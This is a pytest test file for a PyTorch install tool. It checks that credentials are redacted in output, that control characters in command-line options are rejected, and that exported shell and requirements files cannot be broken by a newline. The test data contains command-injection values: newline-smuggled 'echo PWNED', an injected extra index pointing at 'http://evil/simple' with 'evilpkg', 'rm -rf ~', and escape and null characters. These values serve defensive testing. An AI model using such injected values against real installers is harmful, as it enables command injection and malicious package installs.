"""Hostile input at the command line (issue 15): credentials that must reach pip, values that
must not end a line of an exported file, control characters refused at the door."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest

from tests.unit.test_cli_install import SNAPSHOTS, invoke, run_captured
from torchsetup.install.view import InstallResult
from torchsetup.resolve.lockfile import Lock, LockedPackage, LockedWheel
from torchsetup.resolve.plan import Plan

SECRET_INDEX = "http://user:PW-s3cret@127.0.0.1:9/simple"


_LOCK = Lock(
    packages=(
        LockedPackage(
            "torch",
            "2.13.0",
            "http://x/s",
            LockedWheel("torch-2.13.0-py3-none-any.whl", "http://x/f/torch.whl", "0" * 64, 1),
        ),
    )
)


def test_a_credentialed_index_url_reaches_the_executor_unredacted(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Item 1: the plan that runs keeps its credentials (pip sent *** and got a 401)."""
    from torchsetup.cli import install as cli_install
    from torchsetup.detect.snapshot import load_environment
    from torchsetup.install import preflight, session

    env = load_environment(str(SNAPSHOTS / "linux-py311-nodriver.json"))
    monkeypatch.setattr(cli_install, "_environment", lambda snapshot, python: env)
    monkeypatch.setattr(
        preflight, "source_carries", lambda **kw: lambda name: True
    )  # no network in a unit test
    ran: list[Plan] = []

    def fake_run_install(plan: Plan, **kw: Any) -> InstallResult:
        ran.append(plan)
        return InstallResult("install", "declined", 1, "declined", tmp_path / "x.log")

    monkeypatch.setattr(session, "run_install", fake_run_install)
    _code, out, err = run_captured(["install", "--cpu", "--index-url", SECRET_INDEX, "--yes"])
    assert ran, err
    install = next(s for s in ran[0].steps if s.id == "install")
    assert SECRET_INDEX in install.argv, install.argv
    assert "PW-s3cret" not in out + err, "shown redacted"


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--index-url", "http://x/simple\necho PWNED"),
        ("--index-url", "http://x/simple\n--extra-index-url http://evil/simple\nevilpkg"),
        ("--index-url", "http://x/simple\recho PWNED"),
        ("--venv", "/tmp/v\necho PWNED"),
        ("--python", "/usr/bin/python3\x1b]0;t\x07"),
        ("--find-links", "/tmp/w\x00"),
        ("--with", "torchvision\n--pre"),
        ("--torch", "2.4\n"),
    ],
)
def test_control_characters_are_refused_at_the_door(option: str, value: str) -> None:
    """Item 2: a newline ends a `#` comment of the sh export and adds lines to a requirements file."""
    for mode in (("--export", "sh"), ("--export", "requirements"), ("--dry-run",)):
        r = invoke("--cpu", option, value, *mode)
        assert r.code == 2, (r.out, r.err)
        assert "PWNED" not in r.out and "evilpkg" not in r.out
        assert r.err.count("\n") == 1 and "control character" in r.err, r.err
        assert "\x1b" not in r.err and "\x00" not in r.err


def test_sh_export_comments_cannot_end_their_line() -> None:
    """Defence in depth: even a plan holding a newline (not from the CLI) exports safe shell."""
    import dataclasses

    from torchsetup.errors import UsageError
    from torchsetup.resolve.exporters import export_requirements, export_sh
    from torchsetup.resolve.plan import Step

    step = Step(
        id="install",
        description="Install torch from http://x/simple\necho PWNED",
        argv=(
            "python",
            "-m",
            "pip",
            "install",
            "torch==2.13.0",
            "--index-url",
            "http://x/s\necho PWNED",
        ),
    )
    plan = Plan(
        method="pip",
        torch="2.13.0",
        variant="cpu",
        python="python",
        index_url="http://x/s\n--extra-index-url http://evil\nevilpkg",
        steps=(step,),
        warnings=("careful\nrm -rf ~",),
    )
    with pytest.raises(UsageError, match="control character"):
        export_sh(plan)
    with pytest.raises(UsageError, match="control character"):
        export_requirements(dataclasses.replace(plan, warnings=()), _LOCK)
    clean_step = dataclasses.replace(step, argv=(*step.argv[:-1], "http://x/s"))
    plan = dataclasses.replace(plan, steps=(clean_step,), index_url="http://x/s")
    script = export_sh(plan)
    for line in script.splitlines():
        if line.startswith("#") or not line or line == "set -euo pipefail":
            continue
        words = shlex.split(line)
        assert words[:4] == ["python", "-m", "pip", "install"], line
    assert "\necho PWNED" not in script and "\nrm -rf" not in script
    assert "# warning: careful rm -rf ~" in script
    hostile = Lock(packages=(LockedPackage("torchvision", "1 --pre", "http://x/s"),))
    with pytest.raises(UsageError, match="one requirements line"):
        export_requirements(plan, hostile)
    assert "torch==2.13.0 --hash" in export_requirements(plan, _LOCK)
